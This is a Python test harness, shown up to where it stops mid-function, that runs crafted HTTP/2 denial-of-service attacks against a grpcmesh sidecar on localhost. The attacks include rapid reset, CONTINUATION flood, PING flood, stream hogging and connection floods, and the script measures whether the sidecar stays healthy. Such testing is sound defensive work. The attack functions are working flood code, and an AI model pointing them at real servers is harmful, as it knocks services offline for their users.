#!/usr/bin/env python3
"""No client can hurt the mesh: abusive HTTP/2 clients against a client sidecar, one at a time.

Starts a small mesh on 127.0.0.1 (an in-memory registry, three `grpcmesh example-server` apps
each behind a sidecar with --workers 1, and a client-only sidecar with --workers 1 plus
--sidecar-args), runs a well-behaved gRPC client (grpc.aio, Echo/Unary, open loop at --rate
calls/s, each with a --deadline) through the client sidecar's outbound port for the whole run,
measures its baseline for --baseline seconds, then runs each attack against that same outbound
port for --duration seconds, waits --settle seconds after the attacker leaves, and waits (up to
--recover-timeout, polling) for the sidecar's memory to come back.

  python scripts/attack.py [--attacks slow-reader,ping-flood] [--duration 8] \
      [--json /tmp/grpcmesh-attack.json] [--sidecar-args "--max-metadata-bytes 8192"]

Each attacker is a separate process (`attack.py --attacker NAME`, so it is at most one core and
its CPU does not stall the measuring client's event loop) that crafts HTTP/2 frames on raw
asyncio streams with grpcmesh.relay.frames and hpack (h2 refuses to send most of these). Attacks:

  slow-reader         20 ServerStream calls (256 KiB x 1M responses) on a connection granting
                      2^31-1 windows (SETTINGS_INITIAL_WINDOW_SIZE and connection
                      WINDOW_UPDATE); it never reads its socket.
  ping-flood          PINGs as fast as the sidecar takes them (millions); replies never read.
  header-cache        1,500 calls each with one distinct ~200 KB metadata value (over the
                      sidecar's --max-metadata-bytes, so each is refused: RESOURCE_EXHAUSTED).
  long-path           a call to an unknown service with a 20 KB :path, one with 200 KB, then
                      200 KB ones back to back: how long the sidecar takes to answer each.
  zero-window         100 ServerStream calls on a connection with SETTINGS_INITIAL_WINDOW_SIZE 0
                      that never grants window: the upstream connections that every client
                      shares must not be held by them.
  rapid-reset         HEADERS then RST_STREAM(CANCEL), as fast as possible, reconnecting when
                      closed (CVE-2023-44487; the original report was 200k in 5 s).
  stream-hog          10,000 streams opened (HEADERS without END_STREAM) and never finished.
  continuation-flood  HEADERS without END_HEADERS, then millions of empty CONTINUATION frames.
  idle-conns          --idle-conns (7,000) TCP connections that send nothing.
  half-preface        --half-preface-conns (1,000) connections that send half the preface.
                      For these two, --duration starts once every connection is open (opening
                      7,000 takes ~15 s here); the script raises RLIMIT_NOFILE to its hard
                      limit (the mesh inherits it) and scales the counts down if that is short.
  not-grpc            content-type application/json with a 6 MB body (flow control obeyed).

One row per attack:
  sidecar MB   the client sidecar's RSS (VmRSS, its processes summed) before the attack, the
               peak (sampled every 100 ms during the attack and the settle time), and after it
               came back within 30 MB of before (with the seconds that took after the attacker
               left) or when --recover-timeout ran out ("never").
  apps MB      the three example apps' RSS summed, before -> after.
  cpu%         the client sidecar's CPU over the attack, in % of one core.
  fails        the well-behaved client's failed calls among those started between the attack's
               start and the end of the settle time (any status but OK, deadline included),
               then its baseline's in brackets; the JSON has them per second too
               (client_per_second: [failed, slowest ms]).
  p99 ms       those calls' p99 latency (baseline in brackets).
  closed       attacker connections closed by the sidecar (EOF, reset or GOAWAY seen) / opened.
  answer       what the sidecar said: GOAWAY codes, RST_STREAM codes, response statuses.
  result       PASS, or MISS and the targets missed.

Targets, per row: RSS grows by at most 100 MB and returns within 30 MB of before within
--recover-timeout (30 s) after the attacker left ("mem"); the client loses no call and its p99
stays under 50 ms ("client"); the connections are closed where closing is the expected answer
(ping-flood, rapid-reset, continuation-flood, idle-conns, half-preface: "close"); excess streams
are refused or the connection closed (stream-hog: "refuse"); HTTP 415 (not-grpc: "415"). A
sidecar closing idle or half-preface connections after more than --duration seconds shows as a
MISS: give those attacks a --duration over its timeout. The mesh is restarted (and the baseline
measured again) after an attack that killed the sidecar, left the client failing or left the
sidecar's memory up, so that one attack's damage does not count against the next. The JSON
(--json, default /tmp/grpcmesh-attack.json) has every row's numbers and the attacker's own
report. Exit status 1 on any MISS. About 4-6 minutes for all attacks on 2 cores.
"""
from __future__ import annotations

import argparse
import asyncio
import collections
import json
import os
import resource
import shlex
import signal
import subprocess
import sys
import time
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, cast

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import grpc
import hpack
import uvloop

from generated.grpcmesh.example.v1 import echo_pb2, echo_pb2_grpc
from grpcmesh import procs
from grpcmesh.demo import _start_all as start_all
from grpcmesh.output import table
from grpcmesh.relay import frames as f
from scripts.bench_balancers import percentile, wait_serving
from scripts.bench_memory import rss_mb
from scripts.bench_proxy import cpu_seconds, process_tree

ECHO = "grpcmesh.example.v1.Echo"
UNARY, SERVER_STREAM = f"/{ECHO}/Unary", f"/{ECHO}/ServerStream"
MAX_GROWTH_MB, RETURN_MB, P99_MS = 100.0, 30.0, 50.0
FRAME = f.DEFAULT_FRAME_SIZE  # the largest frame the relay takes
ERROR_NAMES = {getattr(f, name): name for name in (
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
    "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
    "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")}
GRPC_NAMES = {str(code.value[0]): code.name for code in grpc.StatusCode}


def error_name(code: int) -> str:
    return ERROR_NAMES.get(code, f"0x{code:x}")


# -- the attacker's view of a connection (pure: bytes in) --------------------------------------

@dataclass
class Answer:
    """What the sidecar sent on one stream."""
    first_at: float | None = None  # when its first frame arrived
    headers: dict[str, str] = field(default_factory=dict)  # :status, grpc-status, grpc-message
    ended: bool = False
    reset: int | None = None
    data: int = 0


class FrameLog:
    """Parses what the sidecar sends on one connection: answers per stream, GOAWAY, windows."""

    def __init__(self, now: Callable[[], float] = time.monotonic) -> None:
        self.now = now
        self.buf = bytearray()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self.block: tuple[int, bool, bytearray] | None = None
        self.answers: dict[int, Answer] = {}
        self.goaway: tuple[int, str] | None = None  # (code, debug data)
        self.eof = False  # the sidecar closed or reset the connection (before we did)
        self.settings = 0
        self.ping_acks = 0
        self.bytes_in = 0
        self.peer_initial = f.DEFAULT_WINDOW
        self.conn_credit = f.DEFAULT_WINDOW  # connection window granted to us, in total
        self.stream_credit: collections.Counter[int] = collections.Counter()
        self.owed: list[bytes] = []  # SETTINGS ACKs to send (the first one is sent up front)

    @property
    def closed(self) -> bool:
        return self.eof or self.goaway is not None

    def answer(self, sid: int) -> Answer:
        a = self.answers.get(sid)
        if a is None:
            a = self.answers[sid] = Answer()
        if a.first_at is None:
            a.first_at = self.now()
        return a

    def feed(self, data: bytes) -> None:
        self.bytes_in += len(data)
        buf = self.buf
        buf += data
        pos, n = 0, len(buf)
        while n - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            end = pos + 9 + length
            if end > n:
                break
            kind, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = b"" if kind == f.DATA else bytes(buf[pos + 9:end])
            pos = end
            self._frame(kind, flags, sid, length, payload)
        del buf[:pos]

    def _frame(self, kind: int, flags: int, sid: int, length: int, payload: bytes) -> None:
        if kind == f.DATA:
            a = self.answer(sid)
            a.data += length
            a.ended = a.ended or bool(flags & f.END_STREAM)
        elif kind == f.HEADERS:
            self.answer(sid)
            self.block = (sid, bool(flags & f.END_STREAM), bytearray(payload))
        elif kind == f.CONTINUATION and self.block is not None:
            self.block[2].extend(payload)
        elif kind == f.RST_STREAM:
            self.answer(sid).reset = int.from_bytes(payload[:4], "big")
        elif kind == f.SETTINGS and not flags & f.ACK:
            self.settings += 1
            for setting, number in f.parse_settings(payload):
                if setting == f.INITIAL_WINDOW_SIZE:
                    self.peer_initial = number
            if self.settings > 1:
                self.owed.append(f.frame(f.SETTINGS, f.ACK, 0))
        elif kind == f.PING and flags & f.ACK:
            self.ping_acks += 1
        elif kind == f.GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = (code, payload[8:208].decode(errors="replace"))
        elif kind == f.WINDOW_UPDATE:
            increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            if sid == 0:
                self.conn_credit += increment
            else:
                self.stream_credit[sid] += increment
        if kind in (f.HEADERS, f.CONTINUATION) and flags & f.END_HEADERS and self.block:
            sid, end, block = self.block
            self.block = None
            a = self.answer(sid)
            for key, value in self.decoder.decode(bytes(block)):
                name = str(key)
                if name in (":status", "grpc-status", "grpc-message"):
                    a.headers[name] = str(value)[:160]
            a.ended = a.ended or end


def describe(a: Answer) -> str:
    grpc_status = a.headers.get("grpc-status")
    text = f"http {a.headers.get(':status', '-')}"
    if grpc_status is not None:
        text += f" {GRPC_NAMES.get(grpc_status, grpc_status)}"
    return text


def summarize(logs: Iterable[FrameLog]) -> dict[str, Any]:
    """The sidecar's answers over an attack's connections."""
    logs = list(logs)
    answers: collections.Counter[str] = collections.Counter()
    messages: dict[str, str] = {}
    resets: collections.Counter[str] = collections.Counter()
    for log in logs:
        for a in log.answers.values():
            if a.headers:
                answers[describe(a)] += 1
                messages.setdefault(describe(a), a.headers.get("grpc-message", ""))
            if a.reset is not None:
                resets[error_name(a.reset)] += 1
    goaways = collections.Counter(error_name(log.goaway[0]) for log in logs if log.goaway)
    debug = next((log.goaway[1] for log in logs if log.goaway and log.goaway[1]), "")
    return {"connections": len(logs), "closed": sum(1 for log in logs if log.closed),
            "goaway": dict(goaways), "goaway_debug": debug, "rst_stream": dict(resets),
            "answers": dict(answers), "messages": messages}


# -- the attacker's connections (asyncio) -------------------------------------------------------

class Conn:
    """A raw HTTP/2 client connection: we write frames; a reader task (unless read=False, for
    attackers that never read) feeds what comes back to a FrameLog."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.log = FrameLog()
        self.encoder = hpack.Encoder()
        self.encoder.header_table_size = 0  # the relay asks for it; its first block says so
        self.closing = False
        self.longest_write = 0.0  # seconds the longest write took to drain
        self._task: asyncio.Task[None] | None = None

    @classmethod
    async def open(cls, address: str, settings: Iterable[tuple[int, int]] = (),
                   conn_window: int = 0, read: bool = True) -> Conn:
        host, _, port = address.rpartition(":")
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, int(port)), 5)
        conn = cls(reader, writer)
        # The relay sends its SETTINGS as it accepts, so ours and the ACK of its go at once.
        hello = f.PREFACE + f.settings_frame(settings) + f.frame(f.SETTINGS, f.ACK, 0)
        writer.write(hello + (f.window_update(0, conn_window) if conn_window else b""))
        if read:
            conn._task = asyncio.create_task(conn._read())
        return conn

    @property
    def closed(self) -> bool:
        return self.log.closed

    async def _read(self) -> None:
        try:
            while data := await self.reader.read(1 << 18):
                self.log.feed(data)
                if self.log.owed:
                    self.writer.write(b"".join(self.log.owed))
                    self.log.owed.clear()
        except (ConnectionError, OSError):
            pass
        if not self.closing:
            self.log.eof = True

    async def send(self, data: bytes, timeout: float) -> bool:
        """Write data; False if the sidecar closed the connection or did not take the bytes
        within timeout."""
        if self.closed:
            return False
        started = time.monotonic()
        try:
            self.writer.write(data)
            await asyncio.wait_for(self.writer.drain(), max(timeout, 0.01))
            return True
        except TimeoutError:
            pass
        except (ConnectionError, OSError):
            self.log.eof = self.log.eof or not self.closing
        finally:
            self.longest_write = max(self.longest_write, time.monotonic() - started)
        return False

    async def probe(self, seconds: float, max_bytes: int = 256 << 20) -> None:
        """For a connection that never read: read what the sidecar sent, to see whether it
        closed the connection (EOF or GOAWAY), within seconds and max_bytes."""
        loop = asyncio.get_running_loop()
        end = loop.time() + seconds
        try:
            while not self.closed and self.log.bytes_in < max_bytes and loop.time() < end:
                data = await asyncio.wait_for(self.reader.read(1 << 20), end - loop.time())
                if not data:
                    self.log.eof = True
                self.log.feed(data)
        except TimeoutError:
            pass
        except (ConnectionError, OSError):
            self.log.eof = True

    def close(self) -> None:
        """Leave at once (abort: what the sidecar did not read is dropped)."""
        self.closing = True
        if self._task is not None:
            self._task.cancel()
        self.writer.transport.abort()

    def headers(self, sid: int, path: str, end: bool, content_type: str = "application/grpc",
                extra: Iterable[tuple[str, str]] = ()) -> bytes:
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attack"),
            ("content-type", content_type), ("te", "trailers"), *extra], huffman=False)
        return f.header_frames(sid, block, end, FRAME)


class Watcher(asyncio.Protocol):
    """A connection that sends `first` (maybe nothing) and then only watches."""

    def __init__(self, first: bytes) -> None:
        self.first = first
        self.log = FrameLog()
        self.transport: asyncio.Transport | None = None
        self.closing = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)  # uvloop's are not subclasses
        if self.first:
            self.transport.write(self.first)

    def data_received(self, data: bytes) -> None:
        if self.log.bytes_in < 1 << 16:
            self.log.feed(data)

    def connection_lost(self, exc: Exception | None) -> None:
        if not self.closing:
            self.log.eof = True

    def close(self) -> None:
        self.closing = True
        if self.transport is not None:
            self.transport.abort()


def grpc_message(request: echo_pb2.EchoRequest) -> bytes:
    body = bytes(request.SerializeToString())
    return b"\x00" + len(body).to_bytes(4, "big") + body


def data_frames(sid: int, payload: bytes, end: bool) -> bytes:
    parts = [payload[i:i + FRAME] for i in range(0, len(payload), FRAME)] or [b""]
    return b"".join(f.frame(f.DATA, f.END_STREAM if end and i == len(parts) - 1 else 0, sid, p)
                    for i, p in enumerate(parts))


class Deadline:
    def __init__(self, seconds: float) -> None:
        self.seconds = seconds
        self.end = time.monotonic() + seconds
        self.stopped = False

    def left(self) -> float:
        return max(0.0, self.end - time.monotonic())

    def stop(self) -> None:
        self.end = time.monotonic()
        self.stopped = True

    def restart(self) -> None:
        """The whole duration again from now (unless stopped)."""
        if not self.stopped:
            self.end = time.monotonic() + self.seconds

    async def hold(self, closed: Callable[[], bool]) -> None:
        """Wait for the deadline, or until closed() says there is nothing left to hold."""
        while self.left() > 0 and not closed():
            await asyncio.sleep(min(0.1, self.left()))


# -- the attacks (each runs in its own process; returns its report) -----------------------------

async def slow_reader(target: str, deadline: Deadline, args: argparse.Namespace
                      ) -> dict[str, Any]:
    conn = await Conn.open(target, [(f.INITIAL_WINDOW_SIZE, f.MAX_WINDOW)],
                           conn_window=f.MAX_WINDOW - f.DEFAULT_WINDOW, read=False)
    try:
        request = grpc_message(echo_pb2.EchoRequest(message="slow", payload=b"s" * (256 << 10),
                                                    responses=1_000_000))
        calls = b"".join(conn.headers(sid, SERVER_STREAM, False) + data_frames(sid, request, True)
                         for sid in range(1, 41, 2))
        await conn.send(calls, deadline.left())
        await deadline.hold(lambda: conn.closed)
        # No probe: reading what is buffered would turn it into a fast reader, and the apps'
        # streaming at full speed would then be measured as the attack. It leaves unread.
        return {**summarize([conn.log]), "calls": 20, "read_at_end_mb":
                round(conn.log.bytes_in / 2**20, 1)}
    finally:
        conn.close()


async def ping_flood(target: str, deadline: Deadline, args: argparse.Namespace
                     ) -> dict[str, Any]:
    conn = await Conn.open(target, read=False)
    batch = 4096
    chunk = f.frame(f.PING, 0, 0, b"attack!!") * batch
    sent = 0
    try:
        while deadline.left() > 0 and await conn.send(chunk, deadline.left()):
            sent += batch
        await conn.probe(3.0)
        return {**summarize([conn.log]), "pings_sent": sent,
                "longest_write_s": round(conn.longest_write, 2),
                "ping_acks_read_at_end": conn.log.ping_acks}
    finally:
        conn.close()


async def header_cache(target: str, deadline: Deadline, args: argparse.Namespace
                       ) -> dict[str, Any]:
    conn = await Conn.open(target)
    blob = os.urandom(100_000).hex()  # 200,000 characters; each call's value differs in front
    sent = 0
    try:
        for i in range(1500):
            frames = conn.headers(1 + 2 * i, UNARY, True, extra=[("x-attack", f"{i:06d}{blob}")])
            if deadline.left() <= 0 or not await conn.send(frames, deadline.left()):
                break
            sent += 1
        await deadline.hold(lambda: conn.closed or len(conn.log.answers) >= sent)
        return {**summarize([conn.log]), "blocks_sent": sent, "block_kb": len(blob) // 1000}
    finally:
        conn.close()


async def long_path(target: str, deadline: Deadline, args: argparse.Namespace
                    ) -> dict[str, Any]:
    conn = await Conn.open(target)
    seconds: dict[str, list[float]] = {"20KB": [], "200KB": []}
    sid = 1
    try:
        for i, size in enumerate(("20KB", "200KB", *["200KB"] * 1000)):
            if i >= 2 and deadline.left() <= 0 or conn.closed:
                break
            # The first two answers are waited for even beyond the duration: their time is
            # the figure this attack is about.
            wait = Deadline(max(deadline.left(), args.answer_timeout if i < 2 else 0))
            path = "/" + "a" * (int(size[:-2]) * 1000 - 8) + ".Svc/M"
            sent_at = time.monotonic()
            await conn.send(conn.headers(sid, path, True), wait.left())
            while wait.left() > 0 and not conn.closed and not (
                    sid in conn.log.answers and conn.log.answers[sid].ended):
                await asyncio.sleep(0.002)
            a = conn.log.answers.get(sid)
            if a is not None and a.first_at is not None:
                seconds[size].append(round(a.first_at - sent_at, 3))
            sid += 2
        return {**summarize([conn.log]), "answer_s_20KB": seconds["20KB"],
                "answer_s_200KB_first": seconds["200KB"][:1],
                "answer_s_200KB_max": max(seconds["200KB"], default=None),
                "calls_200KB": len(seconds["200KB"])}
    finally:
        conn.close()


async def zero_window(target: str, deadline: Deadline, args: argparse.Namespace
                      ) -> dict[str, Any]:
    conn = await Conn.open(target, [(f.INITIAL_WINDOW_SIZE, 0)])
    try:
        request = grpc_message(echo_pb2.EchoRequest(message="zero", payload=b"z" * (64 << 10),
                                                    responses=10_000))
        await conn.send(b"".join(conn.headers(sid, SERVER_STREAM, False)
                                 + data_frames(sid, request, True) for sid in range(1, 201, 2)),
                        deadline.left())
        await deadline.hold(lambda: conn.closed)
        return {**summarize([conn.log]), "calls": 100}
    finally:
        conn.close()


async def rapid_reset(target: str, deadline: Deadline, args: argparse.Namespace
                      ) -> dict[str, Any]:
    logs: list[FrameLog] = []
    pairs = connect_failures = 0
    batch = 500
    started = time.monotonic()
    while deadline.left() > 0:
        try:
            conn = await Conn.open(target)
        except (OSError, TimeoutError):
            connect_failures += 1
            await asyncio.sleep(min(0.05, deadline.left()))
            continue
        logs.append(conn.log)
        first = conn.headers(1, UNARY, False)  # carries the HPACK table size update
        block = conn.headers(1, UNARY, False)[9:]
        sid = 1
        try:
            while deadline.left() > 0 and sid < f.MAX_WINDOW - 2 * batch:
                frames = b"".join((first if s == 1 else f.frame(f.HEADERS, f.END_HEADERS, s, block))
                                  + f.rst_stream(s, f.CANCEL)
                                  for s in range(sid, sid + 2 * batch, 2))
                if not await conn.send(frames, deadline.left()):
                    break
                sid += 2 * batch
                pairs += batch
        finally:
            conn.close()
    return {**summarize(logs), "resets_sent": pairs, "connect_failures": connect_failures,
            "resets_per_s": round(pairs / max(time.monotonic() - started, 1e-9))}


async def stream_hog(target: str, deadline: Deadline, args: argparse.Namespace
                     ) -> dict[str, Any]:
    conn = await Conn.open(target)
    opened = 0
    try:
        for first in range(1, 20_001, 1000):
            frames = b"".join(conn.headers(sid, UNARY, False) for sid in range(first,
                                                                                first + 1000, 2))
            if deadline.left() <= 0 or not await conn.send(frames, deadline.left()):
                break
            opened += 500
        await deadline.hold(lambda: conn.closed)
        return {**summarize([conn.log]), "streams_opened": opened}
    finally:
        conn.close()


async def continuation_flood(target: str, deadline: Deadline, args: argparse.Namespace
                             ) -> dict[str, Any]:
    conn = await Conn.open(target)
    batch = 8192
    chunk = f.frame(f.CONTINUATION, 0, 1, b"") * batch
    sent = 0
    try:
        headers = conn.headers(1, UNARY, True)
        # Without END_HEADERS (the flag byte is the frame header's fifth).
        ok = await conn.send(headers[:4] + bytes([f.END_STREAM]) + headers[5:], deadline.left())
        while ok and deadline.left() > 0 and (ok := await conn.send(chunk, deadline.left())):
            sent += batch
        await asyncio.sleep(min(0.5, deadline.left()))  # a GOAWAY may be on its way
        return {**summarize([conn.log]), "continuations_sent": sent,
                "longest_write_s": round(conn.longest_write, 2)}
    finally:
        conn.close()


async def _watchers(target: str, deadline: Deadline, count: int, first: bytes
                    ) -> dict[str, Any]:
    host, _, port = target.rpartition(":")
    loop = asyncio.get_running_loop()
    watchers: list[Watcher] = []
    failures: collections.Counter[str] = collections.Counter()

    async def one(i: int) -> None:
        # From many loopback addresses: connect() slows to ~1 s per connection here once a
        # few thousand ports of one source address are in use.
        local = (f"127.0.{1 + i // 250 % 250}.{1 + i % 250}", 0) if host == "127.0.0.1" else None
        try:
            _, watcher = await asyncio.wait_for(loop.create_connection(
                lambda: Watcher(first), host, int(port), local_addr=local), 5)
            watchers.append(watcher)
        except (OSError, TimeoutError) as err:
            failures[type(err).__name__ if not isinstance(err, OSError) or not err.strerror
                     else err.strerror] += 1
    started = time.monotonic()
    opening = Deadline(30)  # opening them does not count: the sidecar then has --duration
    try:
        for i in range(0, count, 250):
            if opening.left() <= 0 or deadline.stopped:
                break
            await asyncio.gather(*(one(j) for j in range(i, min(i + 250, count))))
        opened_in = time.monotonic() - started
        deadline.restart()
        await deadline.hold(lambda: all(w.log.closed for w in watchers))
        return {**summarize(w.log for w in watchers), "wanted": count,
                "connect_failures": dict(failures), "open_s": round(opened_in, 2)}
    finally:
        for w in watchers:
            w.close()


async def idle_conns(target: str, deadline: Deadline, args: argparse.Namespace
                     ) -> dict[str, Any]:
    return await _watchers(target, deadline, args.idle_conns, b"")


async def half_preface(target: str, deadline: Deadline, args: argparse.Namespace
                       ) -> dict[str, Any]:
    return await _watchers(target, deadline, args.half_preface_conns, f.PREFACE[:12])


async def not_grpc(target: str, deadline: Deadline, args: argparse.Namespace
                   ) -> dict[str, Any]:
    conn = await Conn.open(target)
    body = b'{"message": "' + b"j" * (6_000_000 - 16) + b'"}'
    log, sid, sent = conn.log, 1, 0
    try:
        started = time.monotonic()
        await conn.send(conn.headers(sid, UNARY, False, content_type="application/json"),
                        deadline.left())
        while sent < len(body) and deadline.left() > 0 and not conn.closed:
            a = log.answers.get(sid)
            if a is not None and (a.ended or a.reset is not None):
                break  # answered before the whole body: stop sending
            room = min(log.conn_credit - sent, log.peer_initial + log.stream_credit[sid] - sent,
                       FRAME, len(body) - sent)
            if room <= 0:
                await asyncio.sleep(0.005)
                continue
            end = sent + room == len(body)
            await conn.send(f.frame(f.DATA, f.END_STREAM if end else 0, sid,
                                    body[sent:sent + room]), deadline.left())
            sent += room
        while deadline.left() > 0 and not conn.closed and not (
                sid in log.answers and (log.answers[sid].ended or log.answers[sid].reset)):
            await asyncio.sleep(0.005)
        a = log.answers.get(sid, Answer())
        # Still open? A PING should come back.
        acks = log.ping_acks
        await conn.send(f.frame(f.PING, 0, 0, b"stillok?"), 1.0)
        for _ in range(100):
            if log.ping_acks > acks or conn.closed:
                break
            await asyncio.sleep(0.01)
        return {**summarize([log]), "status": a.headers.get(":status"),
                "answer_s": round(a.first_at - started, 3) if a.first_at else None,
                "body_bytes_sent": sent, "open_after": log.ping_acks > acks}
    finally:
        conn.close()


@dataclass(frozen=True)
class Attack:
    name: str
    run: Callable[[str, Deadline, argparse.Namespace], Awaitable[dict[str, Any]]]
    expect: str | None  # "close-all", "close-any", "refuse", "415" or None (not checked)


ATTACKS = {a.name: a for a in (
    Attack("slow-reader", slow_reader, None),
    Attack("ping-flood", ping_flood, "close-all"),
    Attack("header-cache", header_cache, None),
    Attack("long-path", long_path, None),
    Attack("zero-window", zero_window, None),
    Attack("rapid-reset", rapid_reset, "close-any"),
    Attack("stream-hog", stream_hog, "refuse"),
    Attack("continuation-flood", continuation_flood, "close-all"),
    Attack("idle-conns", idle_conns, "close-all"),
    Attack("half-preface", half_preface, "close-all"),
    Attack("not-grpc", not_grpc, "415"),
)}


async def attacker_main(args: argparse.Namespace) -> int:
    """The attacker process: runs one attack, prints its report as one JSON line."""
    deadline = Deadline(args.duration)
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, deadline.stop)
    started = time.monotonic()
    try:
        report = await ATTACKS[args.attacker].run(args.target, deadline, args)
    except Exception as err:  # noqa: BLE001  (reported in the row; the other attacks go on)
        report = {"error": f"{type(err).__name__}: {err}"}
    usage = resource.getrusage(resource.RUSAGE_SELF)
    report.update(attacker_s=round(time.monotonic() - started, 2),
                  attacker_cpu_s=round(usage.ru_utime + usage.ru_stime, 2))
    print(json.dumps(report), flush=True)
    return 0


# -- the mesh and the well-behaved client (the measuring process) ------------------------------

class Client:
    """grpc.aio Echo/Unary calls, open loop at rate per second, each with a deadline."""

    def __init__(self, target: str, rate: float, deadline: float) -> None:
        self.target, self.rate, self.deadline = target, rate, deadline
        self.calls: list[tuple[float, float, str]] = []  # (started, seconds, code name)
        self.stop = asyncio.Event()
        self.task = asyncio.get_running_loop().create_task(self._run())

    async def _run(self) -> None:
        loop = asyncio.get_running_loop()
        pending: set[asyncio.Task[None]] = set()
        async with grpc.aio.insecure_channel(self.target) as channel:
            stub = echo_pb2_grpc.EchoStub(channel)
            request = echo_pb2.EchoRequest(message="well-behaved")
            next_at = loop.time()
            while not self.stop.is_set():
                task = loop.create_task(self._one(stub, request))
                pending.add(task)
                task.add_done_callback(pending.discard)
                next_at = max(next_at + 1 / self.rate, loop.time() - 0.5)
                await asyncio.sleep(max(0.0, next_at - loop.time()))
            await asyncio.gather(*pending)

    async def _one(self, stub: echo_pb2_grpc.EchoStub, request: echo_pb2.EchoRequest) -> None:
        started = time.monotonic()
        try:
            await stub.Unary(request, timeout=self.deadline)
            code = "OK"
        except grpc.aio.AioRpcError as err:
            code = err.code().name
        self.calls.append((started, time.monotonic() - started, code))

    def window(self, start: float, end: float) -> dict[str, Any]:
        """Calls started in [start, end)."""
        calls = [c for c in self.calls if start <= c[0] < end]
        lat = sorted(c[1] * 1000 for c in calls if c[2] == "OK")
        codes = collections.Counter(c[2] for c in calls if c[2] != "OK")
        return {"calls": len(calls), "failed": sum(codes.values()), "codes": dict(codes),
                "p50_ms": round(percentile(lat, 0.5), 2) if lat else None,
                "p99_ms": round(percentile(lat, 0.99), 2) if lat else None}

    def timeline(self, start: float, end: float) -> list[list[float]]:
        """Per second from start: [failed calls, slowest answered call in ms]."""
        seconds = [[0.0, 0.0] for _ in range(int(end - start + 0.999))]
        for started, took, code in self.calls:
            if start <= started < end:
                second = seconds[int(started - start)]
                if code == "OK":
                    second[1] = max(second[1], round(took * 1000, 1))
                else:
                    second[0] += 1
        return seconds

    async def close(self) -> None:
        self.stop.set()
        await asyncio.wait_for(self.task, self.deadline + 5)


class Mesh:
    def __init__(self) -> None:
        self.daemons: list[procs.Daemon] = []
        self.apps: list[procs.Daemon] = []
        self.sidecar: procs.Daemon | None = None

    async def start(self, sidecar_args: list[str]) -> None:
        registry = await procs.start("registry", "registry", "--listen", "127.0.0.1:0")
        self.daemons.append(registry)
        reg = registry.addresses["registry"]
        self.apps = await start_all(self.daemons, [
            (f"echo-{n}", "example-server", "--listen", "127.0.0.1:0", "--name", f"echo-{n}")
            for n in (1, 2, 3)])
        await start_all(self.daemons, [
            (f"sidecar-{app.name}", "sidecar", "--service", "echo", "--app", app.addresses["app"],
             "--registry", reg, "--inbound", "127.0.0.1:0", "--outbound", "127.0.0.1:0",
             "--admin", "127.0.0.1:0", "--workers", "1") for app in self.apps])
        self.sidecar = await procs.start(
            "client-sidecar", "sidecar", "--service", "attack-client", "--registry", reg,
            "--outbound", "127.0.0.1:0", "--admin", "127.0.0.1:0", "--workers", "1",
            *sidecar_args)
        self.daemons.append(self.sidecar)
        await wait_serving(self.sidecar.addresses["admin"], len(self.apps))

    @property
    def outbound(self) -> str:
        assert self.sidecar is not None
        return self.sidecar.addresses["outbound"]

    def sidecar_rss(self) -> float | None:
        """The client sidecar's RSS in MB (its processes summed); None once it is gone."""
        assert self.sidecar is not None
        if self.sidecar.proc.returncode is not None:
            return None
        try:
            return rss_mb(self.sidecar.proc.pid)[0]
        except (OSError, KeyError, ValueError):
            return None

    def apps_rss(self) -> float:
        total = 0.0
        for app in self.apps:
            try:
                total += rss_mb(app.proc.pid)[0]
            except (OSError, KeyError, ValueError):
                pass
        return total

    def sidecar_cpu(self) -> float:
        assert self.sidecar is not None
        try:
            return cpu_seconds(process_tree(self.sidecar))
        except OSError:
            return 0.0

    async def stop(self, quick: bool = False) -> None:
        if quick:  # between attacks: nothing to drain, and every second counts
            for d in self.daemons:
                d.kill()
            for d in self.daemons:
                await d.proc.wait()
                d.remove_log()
        else:
            await procs.stop_all(self.daemons)
        self.daemons.clear()


async def run_attack(attack: Attack, mesh: Mesh, client: Client, args: argparse.Namespace
                     ) -> dict[str, Any]:
    row: dict[str, Any] = {"attack": attack.name, "expect": attack.expect, "notes": []}
    before = mesh.sidecar_rss() or 0.0
    apps_before = mesh.apps_rss()
    samples: list[tuple[float, float | None]] = []
    cpu_before = mesh.sidecar_cpu()
    t0 = time.monotonic()
    proc = await asyncio.create_subprocess_exec(
        sys.executable, __file__, "--attacker", attack.name, "--target", mesh.outbound,
        "--duration", str(args.duration), "--answer-timeout", str(args.answer_timeout),
        "--idle-conns", str(args.idle_conns),
        "--half-preface-conns", str(args.half_preface_conns), stdout=subprocess.PIPE)

    async def sample_until(done: Callable[[], bool]) -> None:
        while not done():
            rss = mesh.sidecar_rss()
            samples.append((time.monotonic(), rss))
            if rss is None:
                return
            if rss > args.rss_cap_mb and proc.returncode is None:
                proc.send_signal(signal.SIGTERM)  # the attacker stops early and reports
                row["notes"].append(f"attacker stopped early: sidecar RSS over "
                                    f"{args.rss_cap_mb:g} MB")
            await asyncio.sleep(0.1)

    try:
        sampler = asyncio.get_running_loop().create_task(
            sample_until(lambda: proc.returncode is not None))
        try:
            out, _ = await asyncio.wait_for(proc.communicate(),
                                            args.duration + 2 * args.answer_timeout + 30)
            report = json.loads(out.decode().strip().splitlines()[-1])
        except (TimeoutError, ValueError, IndexError):
            report = {"error": "the attacker did not finish or report"}
